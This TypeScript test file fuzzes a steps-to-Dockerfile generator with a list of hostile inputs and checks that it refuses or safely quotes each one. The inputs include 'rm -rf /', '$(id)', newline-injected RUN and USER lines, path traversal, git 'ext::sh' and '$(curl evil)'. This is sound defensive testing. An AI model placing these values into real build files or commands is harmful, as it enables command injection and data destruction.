import { test } from 'node:test';
import assert from 'node:assert/strict';
import { stepsToDockerfile } from './steps-to-dockerfile.ts';
import { readInstructions } from './steps-test-checker.ts';
import { verifyStep } from './steps-test-verify.ts';

/** Hostile values tried in every string field of every step kind. */
const HOSTILE = [
  'x; rm -rf /', '$(id)', '`id`', 'x\nRUN id', 'x\r\nUSER root', '-rf', '--index-url=http://evil', '"quoted"', "'single'",
  'back\\slash', 'trailing\\', 'ünïcødé ☃', 'nul\u0000byte', '${HOME}', '$HOME', 'a b', '*', '~root', '<<EOF', '["id"]',
  'x\u2028y', 'tab\there', '#comment', 'a && b', '|| id', '@{1}', 'ext::sh -c id', '../../etc/passwd', '\ud800', ' lead', '=x',
];

/** A valid step of each kind, and the string fields (paths into the step) a user controls. */
const KINDS: Array<{ step: Record<string, unknown>; fields: string[] }> = [
  { step: { type: 'run', command: 'true', user: 'app' }, fields: ['command', 'user'] },
  { step: { type: 'run', command: ['echo', 'x'] }, fields: ['command.0', 'command.1'] },
  { step: { type: 'copy', src: ['a', 'b'], dest: '/d', user: 'app', mode: '0644' }, fields: ['src.0', 'src.1', 'dest', 'user', 'mode'] },
  { step: { type: 'copy', src: 'a', dest: '/d' }, fields: ['src'] },
  { step: { type: 'add', src: 'a', dest: '/d', user: '1:1', mode: '0755' }, fields: ['src', 'dest', 'user', 'mode'] },
  { step: { type: 'env', envs: { A: 'v' } }, fields: ['envs.A', 'envs.<key>'] },
  { step: { type: 'arg', name: 'A', default: 'v' }, fields: ['name', 'default'] },
  { step: { type: 'workdir', path: '/w' }, fields: ['path'] },
  { step: { type: 'user', user: 'app' }, fields: ['user'] },
  { step: { type: 'apt_install', packages: ['curl', 'git'] }, fields: ['packages.0', 'packages.1'] },
  { step: { type: 'pip_install', packages: ['requests'], index_url: 'https://pypi.org/simple' }, fields: ['packages.0', 'index_url'] },
  { step: { type: 'npm_install', packages: ['typescript'], global: true }, fields: ['packages.0'] },
  { step: { type: 'git_clone', url: 'https://h/r.git', path: '/src', branch: 'main', depth: 1 }, fields: ['url', 'path', 'branch'] },
  { step: { type: 'make_dir', path: '/d', mode: '0755' }, fields: ['path', 'mode'] },
  { step: { type: 'make_symlink', target: '/t', path: '/p' }, fields: ['target', 'path'] },
  { step: { type: 'remove', path: '/p', recursive: true }, fields: ['path'] },
  { step: { type: 'rename', from: '/a', to: '/b' }, fields: ['from', 'to'] },
  { step: { type: 'RUN', args: ['true', 'echo'] }, fields: ['args.0', 'args.1'] },
  { step: { type: 'COPY', args: ['a', '/d'] }, fields: ['args.0', 'args.1'] },
  { step: { type: 'COPY', args: ['/d'], filesHash: 'sha256:ab' }, fields: ['args.0', 'filesHash'] },
  { step: { type: 'ENV', args: ['A=v'] }, fields: ['args.0'] },
  { step: { type: 'WORKDIR', args: ['/w'] }, fields: ['args.0'] },
  { step: { type: 'USER', args: ['app'] }, fields: ['args.0'] },
  { step: { type: 'CMD', args: ['python', 'app.py'] }, fields: ['args.0', 'args.1'] },
];

/** Returns a copy of `step` with the field at `path` set to `value` (`envs.<key>` renames the variable). */
function withValue(step: Record<string, unknown>, path: string, value: string): Record<string, unknown> {
  const copy = structuredClone(step);
  const [key, sub] = path.split('.');
  if (key === 'envs') copy.envs = sub === '<key>' ? { [value]: 'v' } : { A: value };
  else if (sub === undefined) copy[key] = value;
  else (copy[key] as unknown[])[Number(sub)] = value;
  return copy;
}

/** The JSON field path a problem with the field at `path` must carry. */
function expectedField(path: string, value: string): string {
  const [key, sub] = path.split('.');
  if (key === 'envs') return `steps[1].envs[${JSON.stringify(sub === '<key>' ? value : 'A')}]`;
  return sub === undefined ? `steps[1].${key}` : `steps[1].${key}[${sub}]`;
}

test('every hostile value in every field is refused at its field, or lands intact in one argument', () => {
  let refused = 0;
  let accepted = 0;
  for (const { step, fields } of KINDS) {
    for (const field of fields) {
      for (const value of HOSTILE) {
        const candidate = withValue(step, field, value);
        const label = `${String(step.type)}.${field} = ${JSON.stringify(value)}`;
        const r = stepsToDockerfile('debian:12', [{ type: 'user', user: 'app' }, candidate, { type: 'workdir', path: '/after' }]);
        assert.doesNotThrow(() => JSON.stringify(r), label);
        if (r.problems.length > 0) {
          refused++;
          assert.equal(r.dockerfile, '', label);
          const want = expectedField(field, value);
          assert.ok(r.problems.every((p) => p.code === 'invalid_step' && p.phase === 'request'), label);
          assert.ok(r.problems.some((p) => p.field === want || p.field?.startsWith(`${want}`)), `${label}: fields ${r.problems.map((p) => p.field).join(', ')}`);
          continue;
        }
        accepted++;
        const ins = readInstructions(r.dockerfile);
        const total = r.step_lines.reduce((n, l) => n + l.length, 0);
        assert.equal(ins.length, total + 1, `${label}: instruction count\n${r.dockerfile}`);
        assert.deepEqual(ins.map((i) => i.line), [1, ...r.step_lines.flat()], label);
        assert.deepEqual([ins[0].keyword, ins.at(-1)!.keyword, ins.at(-1)!.rest], ['FROM', 'WORKDIR', '/after'], label);
        const mine = ins.filter((i) => r.step_lines[1].includes(i.line));
        try { verifyStep(candidate, mine); } catch (e) { assert.fail(`${label}: ${(e as Error).message}\n${r.dockerfile}`); }
      }
    }
  }
  assert.ok(refused > 300 && accepted > 150, `refused ${refused}, accepted ${accepted}`);
});

test('a refused value is never echoed into a message', () => {
  const r = stepsToDockerfile('debian:12', [{ type: 'env', envs: { TOKEN: 'secret-value\n' } }, { type: 'apt_install', packages: ['$(curl evil)'] }]);
  assert.equal(r.problems.length, 2);
  for (const p of r.problems) assert.ok(!p.message.includes('secret-value') && !p.message.includes('curl evil'), p.message);
});
